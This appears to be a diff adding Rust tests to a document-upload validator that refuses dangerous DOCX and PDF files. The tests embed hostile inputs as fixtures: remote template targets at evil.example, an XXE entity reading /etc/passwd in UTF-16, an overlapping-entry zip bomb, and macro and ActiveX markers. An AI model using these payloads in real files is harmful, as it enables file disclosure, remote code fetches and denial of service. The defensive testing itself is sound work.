@@ -23,7 +23,9 @@ fn the_name_has_to_say_what_the_content_is() {
     assert_eq!(document(&docx(&[]), "a.pdf"), Err("extension_disagrees"));
     assert_eq!(document(b"only text", "a.pdf"), Err("unknown_kind"));
     assert_eq!(document(b"", "a.txt"), Err("empty"));
-    assert_eq!(document(PDF, "a.html.pdf"), Err("active_extension"));
+    assert_eq!(document(PDF, "a.php.pdf"), Err("active_extension"));
+    assert_eq!(document(PDF, "a.pdf.html"), Err("active_extension"));
+    assert_eq!(document(PDF, "a.html.pdf"), Ok(FileKind::Pdf));
 }
 
 #[test]
@@ -251,4 +253,77 @@ fn a_symbolic_link_in_an_archive_is_refused() {
     writer.flush().unwrap();
     let bytes = writer.finish().unwrap().into_inner();
     assert_eq!(document(&bytes, "a.docx"), Err("damaged"));
+}
+
+/// ASVS: V5.2.3
+#[test]
+fn entries_that_share_their_bytes_are_refused() {
+    let mut bytes = docx(&[("word/media/a.bin", b"same"), ("word/media/b.bin", b"same")]);
+    let heads: Vec<usize> = (0..bytes.len() - 4)
+        .filter(|at| &bytes[*at..at + 4] == b"PK\x01\x02")
+        .collect();
+    // The last entry begins where the one before it begins, as in bombs that use one body many times.
+    let [.., before, last] = heads[..] else {
+        panic!("{heads:?}")
+    };
+    bytes.copy_within(before + 42..before + 46, last + 42);
+    assert_eq!(document(&bytes, "a.docx"), Err("bomb"));
+}
+
+/// Word does not ask for `TargetMode`, nor does it ask for UTF-8.
+#[test]
+fn what_is_elsewhere_is_found_however_it_is_written() {
+    for target in [
+        "https://evil.example/t.dotm",
+        "file://evil.example/t.dotm",
+        r"\\evil.example\share\t.dotm",
+    ] {
+        let rels = format!(
+            "<Relationships><Relationship Id='r1' Type='http://x/attachedTemplate' Target='{target}'/></Relationships>"
+        );
+        let file = docx(&[("word/_rels/settings.xml.rels", rels.as_bytes())]);
+        assert_eq!(document(&file, "a.docx"), Err("external"), "{target}");
+    }
+    let dtd = "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>";
+    let utf_16: Vec<u8> = dtd.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let file = docx(&[("word/styles.xml", &utf_16)]);
+    assert_eq!(document(&file, "a.docx"), Err("external"));
+}
+
+/// Each by one sign alone, as a program that hides the others would leave it.
+#[test]
+fn one_sign_of_a_macro_or_a_control_is_enough() {
+    for entry in ["word/vbaData.xml", "word/editdata.mso"] {
+        let file = docx(&[(entry, b"<x/>")]);
+        assert_eq!(document(&file, "a.docx"), Err("active_content"), "{entry}");
+    }
+    for kind in [
+        "vbaProject",
+        "attachedToolbars",
+        "control",
+        "oleObject",
+        "activeXControlBinary",
+    ] {
+        let rels = format!(
+            "<Relationships><Relationship Id='r1' Type='http://x/{kind}' Target='part.xml'/></Relationships>"
+        );
+        let file = docx(&[("word/_rels/document.xml.rels", rels.as_bytes())]);
+        assert_eq!(document(&file, "a.docx"), Err("active_content"), "{kind}");
+    }
+    for kind in ["activeX+xml", "oleObject", "vbaProject", "vbaData+xml"] {
+        let part = format!(
+            "<Default Extension='x' ContentType='application/vnd.ms-office.{kind}'/></Types>"
+        );
+        let types = CONTENT_TYPES.replace("</Types>", &part);
+        let file = docx(&[("[Content_Types].xml", types.as_bytes())]);
+        assert_eq!(document(&file, "a.docx"), Err("active_content"), "{kind}");
+    }
+}
+
+/// Such a part is held in memory as a whole.
+#[test]
+fn a_part_that_is_read_as_a_whole_has_a_bound_of_its_own() {
+    let types = CONTENT_TYPES.to_owned() + &" ".repeat(5 * 1024 * 1024);
+    let file = docx(&[("[Content_Types].xml", types.as_bytes())]);
+    assert_eq!(document(&file, "a.docx"), Err("bomb"));
 }
